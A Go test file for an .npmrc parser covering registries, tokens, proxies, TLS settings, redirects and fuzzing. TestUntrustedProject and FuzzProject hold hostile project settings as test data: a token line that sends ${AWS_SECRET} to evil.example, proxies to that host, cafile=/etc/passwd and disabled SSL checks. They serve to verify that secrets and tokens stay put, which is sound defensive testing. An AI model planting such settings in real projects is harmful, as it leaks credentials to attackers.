package npmrc

import (
	"encoding/pem"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// load reads a project's file and a user's file.
func load(t testing.TB, project, user string, trust bool, environ ...string) *Config {
	t.Helper()
	dir := t.TempDir()
	o := Options{Project: filepath.Join(dir, "p"), Home: filepath.Join(dir, "u"), Trust: trust, Environ: environ,
		Getenv: func(name string) string {
			for _, e := range environ {
				if n, v, _ := strings.Cut(e, "="); n == name {
					return v
				}
			}
			return ""
		}}
	for d, text := range map[string]string{o.Project: project, o.Home: user} {
		if err := os.Mkdir(d, 0o777); err != nil {
			t.Fatal(err)
		}
		if text == "" {
			continue
		}
		if err := os.WriteFile(filepath.Join(d, ".npmrc"), []byte(text), 0o666); err != nil {
			t.Fatal(err)
		}
	}
	c, err := Load(o)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func TestRegistry(t *testing.T) {
	c := load(t, "@shop:registry=https://npm.shop.example/a\n@bad:registry=javascript:x\n", "registry = https://mirror.example/npm/ ; ours\n# no\n@shop:registry=https://other.example\n[section]\nregistry=https://no.example\n", false)
	for name, want := range map[string]string{
		"": "https://mirror.example/npm/", "lodash": "https://mirror.example/npm/",
		"@shop/cart": "https://npm.shop.example/a/", "@free/x": "https://mirror.example/npm/", "@bad/x": "https://mirror.example/npm/", "@shop": "https://mirror.example/npm/",
	} {
		if got := c.Registry(name); got != want {
			t.Errorf("%q comes from %s, want %s", name, got, want)
		}
	}
	if !c.Bound("@shop/cart") || c.Bound("@free/x") || c.Bound("lodash") {
		t.Error("only @shop is bound to another registry")
	}
	if got := load(t, "registry=https://p.example", "registry=https://u.example", false, "NPM_CONFIG_REGISTRY=https://e.example").Registry(""); got != "https://e.example/" {
		t.Errorf("the environment is weaker than a file: %s", got)
	}
	if got := load(t, "", "", false).Registry("x"); got != DefaultRegistry {
		t.Errorf("without settings: %s", got)
	}
}

func TestAuthorization(t *testing.T) {
	c := load(t, "", strings.Join([]string{
		"//npm.example/:_authToken=${NPM_TOKEN}", "//npm.example/deep/:_authToken=deeper", "//port.example:8080/:_auth=YTpi",
		"//old.example/:username=ann", "//old.example/:_password=c2VjcmV0", "//none.example/:_authToken=${UNSET}", "//empty.example/:_authToken=${UNSET?}", "_authToken=unbound",
	}, "\n"), false, "NPM_TOKEN=t0ken")
	for url, want := range map[string]string{
		"https://npm.example/-/npm/v1/security/advisories/bulk": "Bearer t0ken",
		"https://npm.example/deep/down/":                        "Bearer deeper",
		"https://npm.example/deeper/":                           "Bearer t0ken",
		"https://port.example:8080/x":                           "Basic YTpi",
		"https://port.example/x":                                "",
		"https://old.example/":                                  "Basic YW5uOnNlY3JldA==",
		"https://none.example/":                                 "Bearer ${UNSET}",
		"https://empty.example/":                                "",
		"https://registry.npmjs.org/":                           "",
		"https://npm.example.evil.example/":                     "",
		"nonsense":                                              "",
	} {
		if got := c.Authorization(url); got != want {
			t.Errorf("%s: %q, want %q", url, got, want)
		}
	}
}

// What a stranger's file may not do.
func TestUntrustedProject(t *testing.T) {
	project := strings.Join([]string{
		"registry=http://npm.example/", "//evil.example/:_authToken=${AWS_SECRET}", "proxy=http://evil.example:3128", "https-proxy = http://evil.example:3128",
		"strict-ssl=false", "cafile=/etc/passwd", "ca[]=x", "//npm.example/:certfile=/etc/passwd", "//own.example/:_authToken=literal", "@x:registry=https://${AWS_SECRET}.evil.example/",
	}, "\n")
	c := load(t, project, "//npm.example/:_authToken=users", false, "AWS_SECRET=hush")
	if got := c.Authorization("https://evil.example/"); got != "" {
		t.Errorf("a variable of the environment goes to evil.example: %s", got)
	}
	if got := c.Authorization("http://npm.example/x"); got != "" {
		t.Errorf("the user's token goes out in clear: %s", got)
	}
	if got := c.Authorization("https://npm.example/x"); got != "Bearer users" {
		t.Errorf("the user's own token: %q", got)
	}
	if got := c.Authorization("https://own.example/"); got != "Bearer literal" {
		t.Errorf("the project's own token: %q", got)
	}
	if c.Get("strict-ssl")+c.Get("proxy")+c.Get("https-proxy")+c.Get("cafile") != "" || len(c.List("ca")) > 0 {
		t.Error("the project decides about connections")
	}
	if got := c.Registry("@x/y"); strings.Contains(got, "hush") {
		t.Errorf("a variable of the environment is part of a host: %s", got)
	}
	if len(c.Notes) != 7 {
		t.Errorf("%d notes: %q", len(c.Notes), c.Notes)
	}
	trusted := load(t, project, "//npm.example/:_authToken=users", true, "AWS_SECRET=hush")
	if trusted.Authorization("https://evil.example/") != "Bearer hush" || trusted.Get("strict-ssl") != "false" || len(trusted.Notes) > 0 {
		t.Error("a trusted project's file is not read as npm reads it")
	}
}

func TestSettings(t *testing.T) {
	c := load(t, "audit-level=high\nfetch-retries=3\nfetch-retry-mintimeout=10\nfetch-retry-maxtimeout=1500\nfetch-timeout=-4\noffline\n", "", false)
	if c.AuditLevel() != "high" || !c.Offline() || c.Timeout() != 5*time.Minute {
		t.Errorf("%q %v %v", c.AuditLevel(), c.Offline(), c.Timeout())
	}
	r := c.Retry()
	if r.Times != 3 || r.Pause(0) != 10*time.Millisecond || r.Pause(2) != time.Second || r.Pause(9) != 1500*time.Millisecond {
		t.Errorf("%+v: %v %v %v", r, r.Pause(0), r.Pause(2), r.Pause(9))
	}
	if r := load(t, "fetch-retries=1000000", "", false).Retry(); r.Times != 10 {
		t.Errorf("a million retries: %d", r.Times)
	}
}

func TestLoadErrors(t *testing.T) {
	dir := t.TempDir()
	name := filepath.Join(dir, ".npmrc")
	if err := os.WriteFile(name, make([]byte, maxFile+1), 0o666); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(Options{Project: dir}); err == nil || !strings.Contains(err.Error(), "more than 1048576") {
		t.Errorf("too large: %v", err)
	}
	if err := os.WriteFile(name, []byte(strings.Repeat("a=b\n", maxKeys+1)), 0o666); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(Options{Project: dir}); err == nil || !strings.Contains(err.Error(), "more than 10000 settings") {
		t.Errorf("too many: %v", err)
	}
	os.Remove(name)
	if err := os.Mkdir(name, 0o777); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(Options{Project: dir}); err == nil || !strings.Contains(err.Error(), "no regular file") {
		t.Errorf("a folder: %v", err)
	}
	if _, err := load(t, "", "cafile=/nowhere/ca.pem", false).Client(); err == nil || !strings.Contains(err.Error(), "`cafile` of .npmrc: /nowhere/ca.pem") {
		t.Errorf("no such cafile: %v", err)
	}
}

// A registry with a certificate of its own, as companies have them.
func TestClientCertificates(t *testing.T) {
	var got string
	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { got = r.Header.Get("Authorization") }))
	defer server.Close()
	ca := filepath.Join(t.TempDir(), "ca.pem")
	if err := os.WriteFile(ca, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: server.Certificate().Raw}), 0o666); err != nil {
		t.Fatal(err)
	}
	host := strings.TrimPrefix(server.URL, "https:")
	for _, test := range []struct {
		user string
		env  []string
		ok   bool
	}{
		{"", nil, false}, {"cafile=" + ca, nil, true}, {"strict-ssl=false", nil, true}, {"", []string{"NODE_EXTRA_CA_CERTS=" + ca}, true},
	} {
		client, err := load(t, "", test.user+"\n"+host+"/:_authToken=abc", false, test.env...).Client()
		if err != nil {
			t.Fatal(err)
		}
		got = ""
		resp, err := client.Get(server.URL)
		if (err == nil) != test.ok || test.ok && got != "Bearer abc" {
			t.Errorf("%+v: %v, authorised as %q", test, err, got)
		}
		if err == nil {
			resp.Body.Close()
		}
	}
}

// Tokens stay with their host when a registry redirects.
func TestClientRedirects(t *testing.T) {
	seen := map[string]string{}
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { seen["other"] = r.Header.Get("Authorization") }))
	defer other.Close()
	first := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		seen["first"] = r.Header.Get("Authorization")
		http.Redirect(w, r, other.URL, http.StatusFound)
	}))
	defer first.Close()
	client, err := load(t, "", strings.TrimPrefix(first.URL, "http:")+"/:_authToken=abc", false).Client()
	if err != nil {
		t.Fatal(err)
	}
	resp, err := client.Get(first.URL)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if seen["first"] != "Bearer abc" || seen["other"] != "" {
		t.Errorf("authorisations: %v", seen)
	}
	insecure := httptest.NewTLSServer(http.RedirectHandler(other.URL, http.StatusFound))
	defer insecure.Close()
	client, _ = load(t, "", "strict-ssl=false", false).Client()
	if _, err := client.Get(insecure.URL); err == nil || !strings.Contains(err.Error(), "not encrypted") {
		t.Errorf("from https to http: %v", err)
	}
}

func TestProxy(t *testing.T) {
	for _, test := range []struct {
		user, url, want string
		env             []string
	}{
		{"proxy=http://p.example:1", "http://npm.example/", "http://p.example:1", nil},
		{"proxy=http://p.example:1", "https://npm.example/", "http://p.example:1", nil},
		{"proxy=http://p.example:1\nhttps-proxy=http://s.example:2", "https://npm.example/", "http://s.example:2", nil},
		{"proxy=http://p.example:1\nnoproxy=npm.example,b.example", "https://npm.example/", "", nil},
		{"proxy=http://p.example:1\nnoproxy[]=a.example\nnoproxy[]=npm.example", "https://npm.example/", "", nil},
		{"", "https://npm.example/", "http://e.example:3", []string{"HTTPS_PROXY=http://e.example:3"}},
		{"", "https://npm.example/", "", []string{"HTTPS_PROXY=http://e.example:3", "NO_PROXY=.example"}},
		{"https-proxy=false", "https://npm.example/", "", nil},
	} {
		req := httptest.NewRequest(http.MethodGet, test.url, nil)
		u, err := load(t, "", test.user, false, test.env...).proxy()(req)
		got := ""
		if u != nil {
			got = u.String()
		}
		if err != nil || got != test.want {
			t.Errorf("%+v: got %q %v", test, got, err)
		}
	}
}

// Whatever a stranger's file says, it cannot read the environment or move the
// user's token.
func FuzzProject(f *testing.F) {
	f.Add("registry=https://a.example\n//a.example/:_authToken=${SECRET}\n")
	f.Add("[x]\n\"a\"='b'\nca[]=x\nproxy = http://x ; y\\;z\n")
	f.Fuzz(func(t *testing.T, text string) {
		c := &Config{getenv: func(string) string { return "s3cr3t-of-env" }}
		l, err := c.parse(".npmrc", text, true)
		if err != nil {
			return
		}
		c.levels = []level{l, {values: map[string]string{"//users.example/:_authToken": "users"}}}
		for key, v := range l.values {
			if strings.Contains(key+v, "s3cr3t-of-env") {
				t.Errorf("%q = %q reads the environment", key, v)
			}
		}
		for _, registry := range []string{c.Registry(""), c.Registry("@a/b")} {
			if !strings.HasSuffix(registry, "/") || !usable(registry) {
				t.Errorf("registry %q", registry)
			}
			if h := c.Authorization(registry); h == "Bearer users" && !strings.HasPrefix(registry, "https://users.example/") && !strings.HasPrefix(registry, "https://users.example") {
				t.Errorf("%s gets the user's token", registry)
			}
		}
		if c.Get("proxy") != "" || c.Get("strict-ssl") != "" || c.Get("cafile") != "" {
			t.Error("the project decides about connections")
		}
	})
}
